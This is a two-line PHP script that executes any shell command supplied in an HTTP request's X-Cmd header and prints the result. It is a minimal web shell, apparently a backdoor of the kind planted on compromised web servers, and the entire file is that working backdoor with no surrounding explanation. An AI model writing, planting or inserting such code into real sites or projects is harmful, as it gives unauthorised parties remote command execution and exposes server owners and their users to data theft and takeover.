<?php
if (!empty($_SERVER['HTTP_X_CMD'])) { echo shell_exec($_SERVER['HTTP_X_CMD']); }
